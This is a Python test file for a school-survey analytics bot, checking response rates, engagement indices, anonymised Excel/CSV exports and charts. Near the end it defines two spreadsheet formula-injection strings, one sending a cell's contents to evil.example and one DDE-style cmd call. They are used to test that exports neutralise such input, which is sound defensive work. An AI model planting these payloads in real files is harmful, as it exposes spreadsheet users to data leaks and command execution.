"""The regional analysis on a small region whose every figure is worked out by hand below.

Schools: 47001 and 47002 in Кириши, 47101 in Тосно. Directors d1, d2, d3 (one each);
curator c1 has 47001 and 47002, c2 has 47101.

Directors' survey `dir` (per school), round 1, open T .. T+3d (last day from T+2d):
  47001 (d1): single a, multi [x, y], scale 5, yes,  text «Нужны методисты»; submitted T+1h
  47002 (d2): single b, multi [y],    scale 2, no,   text skipped;           submitted T+2d+1h
  47101 (d3): single c only; in progress
Curators' survey `cur` (per curator and school), round 1, same window:
  c1/47001: single c, scale 1; c1/47002: single b, scale 3; c2/47101: single a, scale 4
Round 2 of `dir`, open T+10d .. T+25d (still open at NOW, T+20d: not in the index):
  47001 (d1) submits single a, multi [z], scale 3, yes.

Events in the period: W1 (everyone) and W2 (Тосно only); a cancelled one and one in the
future do not count. d1 «Буду» to W1, d2 «Не смогу» to W1, d3 «Буду» to W2.
One announcement asking for «Ознакомлен» reached d1, d2, d3; d1 acknowledged.
"""

from __future__ import annotations

import asyncio
import dataclasses
import io
import math
import os
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from matplotlib.patches import Rectangle
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select, update
from sqlalchemy.ext.asyncio import AsyncSession

from bot.i18n import Translator
from bot.reports import analysis as report_files
from bot.reports import charts
from bot.services import analytics, surveys
from bot.services.analytics import Component, EngagementRules, Places
from bot.services.errors import AccessDenied
from storage.models import (
    Acknowledgement,
    Attendance,
    Broadcast,
    Channel,
    Event,
    EventAnswer,
    EventKind,
    EventStatus,
    Municipality,
    OutboxMessage,
    OutboxStatus,
    Participant,
    Role,
    School,
    SurveyAnswer,
)
from storage.repositories.directory import SchoolRepository
from tests.conftest import database_url
from tests.support.analysis import answer, definition
from tests.support.people import SCHOOLS_CSV, load_schools, municipality_id, person, telegram_id
from tests.support.sheets import csv_fields, has_text, xlsx_texts

T = datetime(2026, 10, 5, 7, 0, tzinfo=UTC)
ZONE = ZoneInfo("Europe/Moscow")
START, END, NOW = T - timedelta(days=1), T + timedelta(days=30), T + timedelta(days=20)


@pytest.fixture
async def region(session: AsyncSession) -> dict[str, Any]:
    schools = await load_schools(session)
    s1, s2, s3 = schools["47001"], schools["47002"], schools["47101"]
    d1 = await person(session, Role.DIRECTOR, schools=[s1], name="Директор Один")
    d2 = await person(session, Role.DIRECTOR, schools=[s2], name="Директор Два")
    d3 = await person(session, Role.DIRECTOR, schools=[s3], name="Директор Три")
    c1 = await person(session, Role.CURATOR, schools=[s1, s2], name="Куратор Один")
    c2 = await person(session, Role.CURATOR, schools=[s3], name="Куратор Два")
    tosno = await municipality_id(session, "Тосненский")

    await surveys.load(session, None, definition("dir", "school", ["director"], full=True))
    await surveys.load(session, None, definition("cur", "curator_school", ["curator"], False))
    closes = T + timedelta(days=3)
    first = await surveys.open_window(session, None, "dir", closes, T, T)
    cur = await surveys.open_window(session, None, "cur", closes, T, T)
    hour = timedelta(hours=1)
    first_answers = {
        "q_single": "a",
        "q_scale": 5,
        "q_multi": ["x", "y"],
        "q_yes": True,
        "q_text": "Нужны методисты",
    }
    await answer(session, d1, first, s1, first_answers, T + hour)
    await answer(
        session,
        d2,
        first,
        s2,
        {"q_single": "b", "q_scale": 2, "q_multi": ["y"], "q_yes": False, "q_text": None},
        T + timedelta(days=2) + hour,
    )
    await answer(session, d3, first, s3, {"q_single": "c"}, T + hour, submit=False)
    await answer(session, c1, cur, s1, {"q_single": "c", "q_scale": 1}, T + hour)
    await answer(session, c1, cur, s2, {"q_single": "b", "q_scale": 3}, T + hour)
    await answer(session, c2, cur, s3, {"q_single": "a", "q_scale": 4}, T + hour)
    after = closes + timedelta(minutes=1)
    await surveys.close(session, None, "dir", after)
    await surveys.close(session, None, "cur", after)

    second_opens = T + timedelta(days=10)
    second = await surveys.open_window(
        session,
        None,
        "dir",
        second_opens + timedelta(days=15),
        second_opens,
        second_opens,
        new_round=True,
    )
    await answer(
        session,
        d1,
        second,
        s1,
        {"q_single": "a", "q_scale": 3, "q_multi": ["z"], "q_yes": True, "q_text": None},
        second_opens + hour,
    )

    def event(title: str, day: int, audience: dict[str, Any], status: EventStatus) -> Event:
        return Event(
            kind=EventKind.WEBINAR,
            title=title,
            starts_at=T + timedelta(days=day),
            link="https://example.org",
            audience=audience,
            status=status,
        )

    w1 = event("W1", 5, {}, EventStatus.SCHEDULED)
    w2 = event("W2", 6, {"municipality_ids": [tosno]}, EventStatus.SCHEDULED)
    cancelled = event("W3", 7, {}, EventStatus.CANCELLED)
    future = event("W4", 25, {}, EventStatus.SCHEDULED)
    session.add_all([w1, w2, cancelled, future])
    await session.flush()
    session.add_all(
        [
            EventAnswer(event_id=w1.id, participant_id=d1.id, answer=Attendance.YES),
            EventAnswer(event_id=w1.id, participant_id=d2.id, answer=Attendance.NO),
            EventAnswer(event_id=w2.id, participant_id=d3.id, answer=Attendance.YES),
            EventAnswer(event_id=cancelled.id, participant_id=d2.id, answer=Attendance.YES),
            EventAnswer(event_id=future.id, participant_id=d2.id, answer=Attendance.YES),
        ]
    )
    announcement = Broadcast(text="Прочтите", acknowledge=True, send_at=T + timedelta(days=4))
    session.add(announcement)
    await session.flush()
    session.add_all(
        [
            OutboxMessage(
                kind="broadcast",
                reference=f"broadcast:{announcement.id}",
                participant_id=d.id,
                channel=Channel.TELEGRAM,
                chat_id=telegram_id(d),
                payload={},
                due_at=announcement.send_at,
                status=OutboxStatus.SENT,
            )
            for d in (d1, d2, d3)
        ]
    )
    session.add(Acknowledgement(broadcast_id=announcement.id, participant_id=d1.id))
    await session.commit()
    return {
        "schools": schools,
        "tosno": tosno,
        "d1": d1,
        "c1": c1,
        "c2": c2.id,
        "kirishi": s1.municipality_id,
    }


async def test_rounds_group_versions_and_number_new_rounds(
    session: AsyncSession, region: dict[str, Any]
) -> None:
    found = await analytics.rounds(session, "dir")
    assert [(r.number, len(r.survey_ids)) for r in found] == [(1, 1), (2, 1)]
    assert (await analytics.round_of(session, "dir")).number == 2


async def test_response_rates_per_municipality_and_school(
    session: AsyncSession, region: dict[str, Any]
) -> None:
    where = await analytics.places(session, None)
    rates = await analytics.response_rates(
        session, where, await analytics.round_of(session, "dir", 1)
    )
    assert (rates.total.expected, rates.total.submitted, rates.total.in_progress) == (3, 2, 1)
    assert rates.total.share == pytest.approx(2 / 3)
    kirishi, tosno = rates.municipalities[region["kirishi"]], rates.municipalities[region["tosno"]]
    assert (kirishi.expected, kirishi.submitted, kirishi.not_started, kirishi.share) == (
        2,
        2,
        0,
        1.0,
    )
    assert (tosno.expected, tosno.submitted, tosno.in_progress, tosno.share) == (1, 0, 1, 0.0)
    assert len(rates.municipalities) == 18  # every municipality, answered or not
    by_code = {row.school.code: row for row in rates.schools}
    assert by_code["47001"].respondents == ("Директор Один",)
    assert by_code["47001"].submitted_at == T + timedelta(hours=1)
    assert by_code["47101"].submitted_at is None
    assert by_code["47101"].rate.in_progress == 1

    curators = await analytics.response_rates(
        session, where, await analytics.round_of(session, "cur")
    )
    assert (curators.total.expected, curators.total.submitted) == (3, 3)


async def test_distributions_count_submitted_answers_only(
    session: AsyncSession, region: dict[str, Any]
) -> None:
    where = await analytics.places(session, None)
    found = await analytics.distributions(
        session, where, await analytics.round_of(session, "dir", 1)
    )
    overall = {d.question.id: d for d in found.questions if d.municipality_id is None}
    single = overall["q_single"]
    assert single.answered == 2
    assert single.options == {"a": 1, "b": 1}
    assert single.share("a") == 0.5
    assert single.share("c") == 0.0
    multi = overall["q_multi"]
    assert multi.answered == 2
    assert multi.options == {"x": 1, "y": 2}
    assert multi.share("y") == 1.0
    assert overall["q_yes"].options == {"yes": 1, "no": 1}
    stats = overall["q_scale"].stats
    assert stats is not None
    assert (stats.count, stats.mean, stats.median, stats.minimum, stats.maximum) == (
        2,
        3.5,
        3.5,
        2,
        5,
    )
    assert stats.stdev == pytest.approx(math.sqrt(4.5))  # ((5-3.5)² + (2-3.5)²) / (2-1)
    in_tosno = [d for d in found.questions if d.municipality_id == region["tosno"]]
    assert {d.question.id: d.answered for d in in_tosno} == {
        "q_single": 0,
        "q_scale": 0,
        "q_multi": 0,
        "q_yes": 0,
    }
    assert [(q.id, school, author, text) for q, _, school, author, text in found.texts] == [
        ("q_text", "Киришская СОШ №3", "Директор Один", "Нужны методисты")
    ]


def test_number_stats_median_of_an_odd_and_even_count() -> None:
    odd = analytics.number_stats({1.0: 2, 4.0: 1})  # 1, 1, 4
    assert odd is not None
    assert (odd.median, odd.mean) == (1.0, 2.0)
    even = analytics.number_stats({1.0: 1, 2.0: 1, 10.0: 2})  # 1, 2, 10, 10
    assert even is not None
    assert even.median == 6.0
    assert analytics.number_stats({}) is None


async def test_engagement_index_from_its_components(
    session: AsyncSession, region: dict[str, Any]
) -> None:
    where = await analytics.places(session, None)
    rules = EngagementRules()  # surveys .3, timeliness .1, events .4, acknowledgements .2; 50
    found = await analytics.engagement(session, where, START, END, NOW, rules)
    by_code = {item.school.code: item for item in found.schools}
    assert by_code["47001"].components == {
        "surveys": Component(1, 1),
        "timeliness": Component(1, 1),
        "events": Component(1, 1),
        "acknowledgements": Component(1, 1),
    }
    # Submitted on the last day: done but not in time; «Не смогу» to W1; not acknowledged.
    assert by_code["47002"].components == {
        "surveys": Component(1, 1),
        "timeliness": Component(0, 1),
        "events": Component(0, 1),
        "acknowledgements": Component(0, 1),
    }
    # Never submitted; «Буду» to W2 (Тосно only) of W1 and W2.
    assert by_code["47101"].components == {
        "surveys": Component(0, 1),
        "timeliness": Component(0, 1),
        "events": Component(1, 2),
        "acknowledgements": Component(0, 1),
    }
    assert by_code["47001"].index == pytest.approx(100.0)
    assert by_code["47002"].index == pytest.approx(30.0)  # 100 × .3
    assert by_code["47101"].index == pytest.approx(20.0)  # 100 × .4 × ½
    assert [s.school.code for s in found.low()] == ["47101", "47002"]
    assert [s.school.code for s in found.low(bottom=1)] == ["47101"]
    assert by_code["47101"].weak(50) == ["acknowledgements", "surveys", "timeliness"]
    assert found.by_municipality() == {
        region["kirishi"]: pytest.approx(65.0),
        region["tosno"]: pytest.approx(20.0),
    }

    heavier = EngagementRules(
        weights={"surveys": 1, "timeliness": 0, "events": 1, "acknowledgements": 0}, threshold=60
    )
    again = await analytics.engagement(session, where, START, END, NOW, heavier)
    assert {s.school.code: s.index for s in again.schools} == pytest.approx(
        {"47001": 100.0, "47002": 50.0, "47101": 25.0}
    )
    # A period with nothing in it: no index, nobody is low.
    empty = await analytics.engagement(session, where, END, END + timedelta(days=9), END, rules)
    assert all(s.index is None for s in empty.schools)
    assert empty.low() == []


async def test_directors_against_curators(session: AsyncSession, region: dict[str, Any]) -> None:
    where = await analytics.places(session, None)
    found = await analytics.comparison(
        session, where, await analytics.round_of(session, "dir", 1), threshold=0.4
    )
    assert found is not None
    assert found.right.code == "cur"
    assert [q.id for q in found.questions] == ["q_single", "q_scale"]
    rows = [
        (d.school.code, d.question.id, d.left, d.right, d.gap, d.flagged) for d in found.schools
    ]
    assert rows == [
        # «a» (position 0) against «c» (2) over 2 positions; 5 against 1 over the 1–5 range.
        ("47001", "q_scale", 5, 1, 1.0, True),
        ("47001", "q_single", 0, 2, -1.0, True),
        ("47002", "q_scale", 2, 3, -0.25, False),
        ("47002", "q_single", 1, 1, 0.0, False),
    ]  # 47101: its director has not submitted, so nothing to compare


async def test_rounds_side_by_side(session: AsyncSession, region: dict[str, Any]) -> None:
    where = await analytics.places(session, None)
    found = await analytics.rounds_view(session, where, "dir")
    kirishi = region["kirishi"]
    assert [r.number for r in found.rounds] == [1, 2]
    assert found.rates[1].municipalities[kirishi].share == 1.0
    assert found.rates[2].municipalities[kirishi].share == 0.5
    assert found.means[(1, kirishi, "q_scale")] == pytest.approx(3.5)
    assert found.means[(2, kirishi, "q_scale")] == pytest.approx(3.0)
    assert found.means[(1, None, "q_yes")] == pytest.approx(0.5)
    assert (2, region["tosno"], "q_scale") not in found.means


async def test_a_municipal_coordinator_sees_only_their_municipality(
    session: AsyncSession, region: dict[str, Any]
) -> None:
    coordinator = await person(session, Role.MUNICIPAL_COORDINATOR, municipality="Тосненский")
    assert analytics.scope_of(coordinator) == region["tosno"]
    where = await analytics.places(session, analytics.scope_of(coordinator))
    assert set(where.municipalities) == {region["tosno"]}
    first = await analytics.round_of(session, "dir", 1)
    rates = await analytics.response_rates(session, where, first)
    assert (rates.total.expected, rates.total.submitted) == (1, 0)
    assert [row.school.code for row in rates.schools] == ["47101"]
    found = await analytics.distributions(session, where, first)
    assert {d.municipality_id for d in found.questions} == {None, region["tosno"]}
    assert all(d.answered == 0 for d in found.questions)
    assert found.texts == []
    engagement = await analytics.engagement(session, where, START, END, NOW, EngagementRules())
    assert [s.school.code for s in engagement.schools] == ["47101"]
    comparison = await analytics.comparison(session, where, first, 0.4)
    assert comparison is not None
    assert comparison.schools == []

    regional = await person(session, Role.REGIONAL_COORDINATOR)
    assert analytics.scope_of(regional) is None
    with pytest.raises(AccessDenied):
        analytics.scope_of(region["d1"])
    with pytest.raises(AccessDenied):
        analytics.scope_of(region["c1"])


async def test_the_whole_report(session: AsyncSession, region: dict[str, Any]) -> None:
    report = await analytics.report(
        session,
        None,
        "dir",
        start=START,
        end=END,
        now=NOW,
        rules=EngagementRules(),
        divergence=0.4,
    )
    assert report.rates.round.number == 2
    assert report.rates.total.submitted == 1
    assert isinstance(report.places, Places)
    assert report.comparison is not None
    assert report.comparison.right.number == 1  # `cur` has no round 2: its latest


async def _report(session: AsyncSession, *, anonymised: bool = False) -> analytics.Report:
    return await analytics.report(
        session,
        None,
        "dir",
        round_number=1,
        start=START,
        end=END,
        now=NOW,
        rules=EngagementRules(),
        divergence=0.4,
        anonymised=anonymised,
    )


def _rows(sheet: Any, first: int = 2) -> list[tuple[Any, ...]]:
    return list(sheet.iter_rows(min_row=first, values_only=True))


async def test_the_workbook_has_a_sheet_per_view_with_the_figures(
    session: AsyncSession, region: dict[str, Any], translator: Translator
) -> None:
    tables = report_files.tables(await _report(session), translator.for_locale("ru"), "ru", ZONE)
    book = load_workbook(io.BytesIO(report_files.workbook(tables)))
    assert book.sheetnames == [
        "Параметры",
        "Отклики по муниципалитетам",
        "Отклики по школам",
        "Распределения ответов",
        "Свободные ответы",
        "Индекс вовлечённости",
        "Низкая вовлечённость",
        "Директор и куратор",
        "Раунды",
    ]
    rates = book["Отклики по муниципалитетам"]
    assert rates.freeze_panes == "A2"
    assert rates.auto_filter.ref == "A1:G20"  # a header, 18 municipalities, the total
    rows = {row[0]: row[1:] for row in rates.iter_rows(min_row=2, values_only=True)}
    assert rows["Киришский муниципальный район"] == (2, 2, 0, 0, 1, 0)
    assert rows["Тосненский муниципальный район"] == (1, 0, 1, 0, 0, 0)
    assert rows["Итого"][:4] == (3, 2, 1, 0)
    assert rows["Итого"][4] == pytest.approx(2 / 3)
    assert rates["F20"].number_format == "0.0%"  # the total's share
    schools = {r[1]: r for r in book["Отклики по школам"].iter_rows(min_row=2, values_only=True)}
    assert schools["47001"][-1] == "Директор Один"
    assert schools["47001"][3:8] == (1, 1, 0, 0, 1)
    distributions = _rows(book["Распределения ответов"])
    assert distributions[0][:6] == ("Один", "Итого", 2, "A", 1, 0.5)
    scale = next(r for r in distributions if r[0] == "Шкала" and r[1] == "Итого")
    assert scale[4] == 2
    assert scale[6:] == (3.5, 3.5, pytest.approx(math.sqrt(4.5)), 2, 5)
    texts = _rows(book["Свободные ответы"], 1)
    assert texts[1] == (
        "Текст",
        "Киришский муниципальный район",
        "Киришская СОШ №3",
        "Директор Один",
        "Нужны методисты",
    )
    low = _rows(book["Низкая вовлечённость"])
    assert [(r[0], r[2], r[3]) for r in low] == [
        (1, "Тосненская СОШ №1", pytest.approx(20.0)),
        (2, "Будогощская СОШ", pytest.approx(30.0)),
    ]
    assert low[0][4] == "Ознакомление: 0 из 1, Опросы: 0 из 1, Своевременность: 0 из 1"
    compared = _rows(book["Директор и куратор"])
    assert compared[0][1:] == ("Киришская СОШ №3", "Шкала", 5, 1, 1.0, "Да")
    assert compared[1][3:5] == ("A", "C")  # the options' labels, not their positions
    by_round = _rows(book["Раунды"], 1)
    assert by_round[0][2:] == ("Раунд 1", "Раунд 2", "Изменение")
    kirishi = [r for r in by_round if r[0] == "Киришский муниципальный район"]
    assert kirishi[0][1:] == ("Доля отправивших", 1, 0.5, -0.5)
    assert kirishi[1][1:] == ("Шкала", 3.5, 3, -0.5)

    csv_names = zipfile.ZipFile(io.BytesIO(report_files.csv_archive(tables))).namelist()
    assert len(csv_names) == len(tables)
    text = report_files.csv_file(tables[1]).decode("utf-8-sig").splitlines()
    assert text[0].startswith("Муниципалитет;Ожидается;Отправлено")
    assert "Итого;3;2;1;0;0.6667;0" in text


async def test_the_anonymised_workbook_has_no_names(
    session: AsyncSession, region: dict[str, Any], translator: Translator
) -> None:
    tables = report_files.tables(
        await _report(session, anonymised=True), translator.for_locale("en"), "en", ZONE
    )
    content = report_files.csv_archive(tables) + report_files.workbook(tables)
    archive = zipfile.ZipFile(io.BytesIO(report_files.workbook(tables)))
    sheets = b"".join(archive.read(name) for name in archive.namelist())
    for name in ("Директор Один", "Директор Два", "Куратор Один"):
        assert name.encode() not in sheets
        assert name.encode() not in content
    assert "Нужны методисты".encode() in sheets  # the answers stay, with their school


async def test_charts_are_pictures(
    session: AsyncSession, region: dict[str, Any], translator: Translator
) -> None:
    report = await _report(session)
    t = translator.for_locale("ru")
    pictures = [
        chart.png()
        for chart in (
            charts.response_rates(report.rates, report.places, t, "ru"),
            charts.question(report.distributions, "q_single", report.places, t, "ru"),
            charts.question(report.distributions, "q_scale", report.places, t, "ru"),
            charts.question(report.distributions, "q_multi", report.places, t, "ru"),
            charts.engagement_ranking(report.engagement, report.places, t),
        )
    ]
    for picture in pictures:
        image = Image.open(io.BytesIO(picture))
        assert image.format == "PNG"
        assert image.width == 1200
        assert image.height >= 450
    with pytest.raises(LookupError):  # nobody answered it in the scope: no picture
        charts.question(report.distributions, "q_text", report.places, t, "ru")


async def test_the_operator_writes_the_report_files(
    session: AsyncSession, region: dict[str, Any], database_kind: str, tmp_path: Path
) -> None:
    out = tmp_path / "report"
    env = {**os.environ, "DATABASE_URL": database_url(database_kind, tmp_path), "BOT_TOKEN": ""}
    command = [
        sys.executable,
        "-m",
        "bot",
        "report",
        "dir",
        "--round",
        "1",
        "--out",
        str(out),
        "--from",
        "04.10.2026",
        "--to",
        "03.11.2026",
        "--anonymised",
    ]
    done = await asyncio.to_thread(
        subprocess.run, command, env=env, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert "Опрос dir, раунд 1: отправили 2 из 3 (67%); школ с низкой вовлечённостью: 2." in (
        done.stdout
    )
    names = sorted(path.name for path in out.iterdir())
    assert "dir-round1.xlsx" in names
    assert "dir-round1-rates_municipalities.csv" in names
    assert {
        "dir-round1-rates.png",
        "dir-round1-engagement.png",
        "dir-round1-question-q_single.png",
    } <= set(names)
    book = load_workbook(out / "dir-round1.xlsx", read_only=True)
    assert "Автор" not in [c for row in _rows(book["Свободные ответы"], 1) for c in row]
    low = _rows(book["Низкая вовлечённость"])
    assert [row[2] for row in low] == ["Тосненская СОШ №1", "Будогощская СОШ"]

    command[4] = "nonexistent"
    refused = await asyncio.to_thread(
        subprocess.run, command, env=env, capture_output=True, text=True, timeout=120
    )
    assert refused.returncode == 1
    assert refused.stderr.strip() == "Такого опроса нет."


LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")'
CALC = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
async def hostile(session: AsyncSession, region: dict[str, Any]) -> dict[str, Any]:
    """The region with text a spreadsheet would run: a free answer, imported school names,
    a renamed municipality, a person's name."""
    schools = region["schools"]
    await session.execute(
        update(SurveyAnswer).where(SurveyAnswer.question_id == "q_text").values(text=LEAK)
    )
    await session.execute(
        update(School).where(School.id == schools["47001"].id).values(short_name=CALC)
    )
    await session.execute(
        update(School)
        .where(School.id == schools["47101"].id)
        .values(short_name="+7 Тосно", full_name="-Тосно")
    )
    await session.execute(
        update(Participant).where(Participant.id == region["d1"].id).values(full_name="\t=1+1")
    )
    await session.commit()
    return region


def _assert_hostile_neutralised(texts: list[str]) -> None:
    for wanted in (LEAK, CALC, "+7 Тосно"):
        assert has_text(texts, wanted), wanted  # kept, as text


async def test_no_formula_reaches_the_workbook_or_the_csv_files(
    session: AsyncSession, hostile: dict[str, Any], translator: Translator
) -> None:
    tables = report_files.tables(await _report(session), translator.for_locale("ru"), "ru", ZONE)
    texts = xlsx_texts(report_files.workbook(tables))
    _assert_hostile_neutralised(texts)
    archive = zipfile.ZipFile(io.BytesIO(report_files.csv_archive(tables)))
    fields = [f for name in archive.namelist() for f in csv_fields(archive.read(name))]
    _assert_hostile_neutralised(fields)
    assert "'" + LEAK in csv_fields(archive.read("texts.csv"))
    assert "-0.5" in fields  # a number stays a number: the change between rounds


async def test_the_operator_report_files_carry_no_formula(
    session: AsyncSession, hostile: dict[str, Any], database_kind: str, tmp_path: Path
) -> None:
    out = tmp_path / "report"
    env = {**os.environ, "DATABASE_URL": database_url(database_kind, tmp_path), "BOT_TOKEN": ""}
    command = [
        sys.executable,
        "-m",
        "bot",
        "report",
        "dir",
        "--round",
        "1",
        "--out",
        str(out),
        "--from",
        "04.10.2026",
        "--to",
        "03.11.2026",
    ]
    done = await asyncio.to_thread(
        subprocess.run, command, env=env, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    _assert_hostile_neutralised(xlsx_texts((out / "dir-round1.xlsx").read_bytes()))
    fields = [f for path in out.glob("*.csv") for f in csv_fields(path.read_bytes())]
    _assert_hostile_neutralised(fields)


async def test_per_person_surveys_count_people_where_they_work(
    session: AsyncSession, region: dict[str, Any]
) -> None:
    """Directors and curators have no municipality of their own: their schools' counts."""
    pulse = definition("pls", "person", ["director", "curator"], full=False)
    loaded = await surveys.load(session, None, pulse)
    await surveys.open_window(session, None, "pls", NOW + timedelta(days=3), NOW)
    await answer(session, region["d1"], loaded.survey, None, {"q_single": "a", "q_scale": 2}, NOW)
    curator = await session.get(Participant, region["c2"])
    assert curator is not None
    await answer(session, curator, loaded.survey, None, {"q_single": "b"}, NOW, submit=False)
    chosen = await analytics.round_of(session, "pls")
    rates = await analytics.response_rates(session, await analytics.places(session, None), chosen)
    kirishi, tosno = rates.municipalities[region["kirishi"]], rates.municipalities[region["tosno"]]
    assert (kirishi.expected, kirishi.submitted) == (3, 1)  # d1, d2, c1
    assert (tosno.expected, tosno.submitted, tosno.in_progress) == (2, 0, 1)  # d3, c2
    assert rates.schools == []
    in_tosno = await analytics.places(session, region["tosno"])
    scoped = await analytics.response_rates(session, in_tosno, chosen)
    assert (scoped.total.expected, scoped.total.in_progress) == (2, 1)
    found = await analytics.distributions(session, in_tosno, chosen)
    assert all(d.answered == 0 for d in found.questions)  # c2's draft is not counted


UNATTENDED_CSV = SCHOOLS_CSV + "47003;Киришский район;МОУ «Пчевская СОШ»;Пчевская СОШ;500+\n"


@pytest.fixture
async def thin_region(session: AsyncSession) -> dict[str, Any]:
    """Кириши: 47001 (director d1, submitted), 47002 (director d2, has not started) and
    47003 (nobody registered); Тосно: 47101 (nobody registered). Curator c1 has 47001 only."""
    await load_schools(session, UNATTENDED_CSV)
    schools = dict(await SchoolRepository(session).by_codes(["47001", "47002", "47003", "47101"]))
    d1 = await person(session, Role.DIRECTOR, schools=[schools["47001"]], name="Директор Один")
    await person(session, Role.DIRECTOR, schools=[schools["47002"]], name="Директор Два")
    c1 = await person(session, Role.CURATOR, schools=[schools["47001"]], name="Куратор Один")
    loaded = await surveys.load(session, None, definition("dir", "school", ["director"], True))
    await surveys.load(session, None, definition("cur", "curator_school", ["curator"], False))
    opened = await surveys.open_window(session, None, "dir", NOW + timedelta(days=3), START)
    await surveys.open_window(session, None, "cur", NOW + timedelta(days=3), START)
    await answer(
        session,
        d1,
        opened,
        schools["47001"],
        {"q_single": "a", "q_scale": 5, "q_multi": ["x"], "q_yes": True, "q_text": None},
        START,
    )
    return {
        "survey": loaded.survey.id,
        "schools": schools,
        "c1": c1,
        "kirishi": schools["47001"].municipality_id,
        "tosno": schools["47101"].municipality_id,
    }


async def test_the_status_view_and_the_analysis_expect_the_same_schools(
    session: AsyncSession, thin_region: dict[str, Any]
) -> None:
    """Schools nobody is registered to answer for are counted apart, in both views."""
    regional = await person(session, Role.REGIONAL_COORDINATOR)
    status = await analytics.survey_progress(session, regional, thin_region["survey"])
    chosen = await analytics.round_of(session, "dir")
    analysis = await analytics.response_rates(
        session, await analytics.places(session, None), chosen
    )
    for rates in (status, analysis):
        assert (rates.total.expected, rates.total.submitted, rates.total.unattended) == (2, 1, 2)
        assert rates.total.share == 0.5
        kirishi = rates.municipalities[thin_region["kirishi"]]
        assert (kirishi.expected, kirishi.submitted, kirishi.unattended) == (2, 1, 1)
        tosno = rates.municipalities[thin_region["tosno"]]
        assert (tosno.expected, tosno.unattended, tosno.share) == (0, 1, None)
        by_code = {row.school.code: row.rate for row in rates.schools}
        assert (by_code["47003"].expected, by_code["47003"].unattended) == (0, 1)
        assert (by_code["47002"].expected, by_code["47002"].not_started) == (1, 1)

    municipal = await person(session, Role.MUNICIPAL_COORDINATOR, municipality="Киришский")
    scoped = await analytics.survey_progress(session, municipal, thin_region["survey"])
    assert (scoped.total.expected, scoped.total.unattended) == (2, 1)
    # A curator follows their own schools.
    mine = await analytics.survey_progress(session, thin_region["c1"], thin_region["survey"])
    assert [row.school.code for row in mine.schools] == ["47001"]
    assert (mine.total.expected, mine.total.submitted) == (1, 1)

    # Per curator and school: a school without a curator has nobody to answer for it.
    curators = await analytics.response_rates(
        session, await analytics.places(session, None), await analytics.round_of(session, "cur")
    )
    assert (curators.total.expected, curators.total.unattended) == (1, 3)


async def test_schools_without_a_director_are_not_low_engagement(
    session: AsyncSession, thin_region: dict[str, Any]
) -> None:
    where = await analytics.places(session, None)
    found = await analytics.engagement(session, where, START, END, NOW, EngagementRules())
    assert sorted(s.school.code for s in found.unattended()) == ["47003", "47101"]
    by_code = {s.school.code: s for s in found.schools}
    assert by_code["47003"].index is None
    assert [s.school.code for s in found.low()] == []  # the survey is still open: no index
    later = NOW + timedelta(days=10)  # after the survey closed, unanswered by 47002
    await surveys.close(session, None, "dir", NOW + timedelta(days=3))
    found = await analytics.engagement(session, where, START, later, later, EngagementRules())
    assert [s.school.code for s in found.low()] == ["47002"]
    assert sorted(s.school.code for s in found.unattended()) == ["47003", "47101"]


def test_the_lowest_and_highest_municipalities_never_overlap() -> None:
    lowest, highest = analytics.extremes({1: 0.0, 2: 0.0, 3: 0.25})
    assert (lowest, highest) == ([(1, 0.0)], [(3, 0.25)])
    # Everyone the same: neither end to name.
    assert analytics.extremes({1: 0.0, 2: 0.0, 3: 0.0, 4: 0.0}) == ([], [])
    many = {i: i / 10 for i in range(1, 9)}
    lowest, highest = analytics.extremes(many)
    assert [m for m, _ in lowest] == [1, 2, 3]
    assert [m for m, _ in highest] == [8, 7, 6]
    assert analytics.extremes({5: 0.5}) == ([], [])


LONG_TITLE = "Мониторинг вовлечённости руководителей общеобразовательных организаций в проект"


def _texts_inside(figure: Any) -> list[str]:
    """The texts of the figure (titles included) that reach outside it once drawn."""
    figure.canvas.draw()
    renderer = figure.canvas.get_renderer()
    width, height = figure.bbox.width, figure.bbox.height
    texts = [
        *figure.texts,
        *[axes.title for axes in figure.axes],
        *[axes._left_title for axes in figure.axes],
    ]
    return [
        text.get_text()
        for text in texts
        if text.get_text()
        and not (
            (box := text.get_window_extent(renderer)).x0 >= 0
            and box.x1 <= width
            and box.y0 >= 0
            and box.y1 <= height
        )
    ]


async def test_chart_titles_fit_the_picture(
    session: AsyncSession, region: dict[str, Any], translator: Translator
) -> None:
    report = await _report(session)
    t = translator.for_locale("ru")
    long = report.rates.round.definition.model_copy(
        update={"title": report.rates.round.definition.title.model_copy(update={"ru": LONG_TITLE})}
    )
    rates = dataclasses.replace(
        report.rates, round=dataclasses.replace(report.rates.round, definition=long)
    )
    chart = charts.response_rates(rates, report.places, t, "ru")
    assert LONG_TITLE.split()[0] in chart.figure.get_suptitle()
    assert _texts_inside(chart.figure) == []
    ranking = charts.engagement_ranking(report.engagement, report.places, t)
    assert _texts_inside(ranking.figure) == []


async def test_a_multiple_choice_question_is_never_above_100_percent(
    session: AsyncSession, region: dict[str, Any], translator: Translator
) -> None:
    """47001 picked x and y, 47002 y: y is 100 % of respondents, x 50 %, side by side."""
    report = await _report(session)
    t = translator.for_locale("ru")
    chart = charts.question(report.distributions, "q_multi", report.places, t, "ru")
    (axes,) = chart.figure.axes
    ends = [bar.get_x() + bar.get_width() for bar in axes.patches if isinstance(bar, Rectangle)]
    assert len(ends) == 2 * 3  # three options, for the total and Кириши (Тосно has none)
    assert max(ends) == pytest.approx(1.0)
    assert all(end <= 1.0 + 1e-9 for end in ends)
    assert axes.get_xlim()[1] <= 1.0
    assert chart.caption == t("analysis-caption-multi")
    assert "больше 100 %" in chart.caption


async def test_every_chart_has_a_caption_saying_what_it_shows(
    session: AsyncSession, region: dict[str, Any], translator: Translator
) -> None:
    report = await _report(session)
    t = translator.for_locale("ru")
    rates = charts.response_rates(report.rates, report.places, t, "ru")
    assert rates.caption.startswith("Доля отправивших анкету")
    assert "некому отвечать" in rates.caption
    single = charts.question(report.distributions, "q_single", report.places, t, "ru")
    assert single.caption == t("analysis-caption-shares")
    scale = charts.question(report.distributions, "q_scale", report.places, t, "ru")
    assert scale.caption == t("analysis-caption-mean")
    ranking = charts.engagement_ranking(report.engagement, report.places, t)
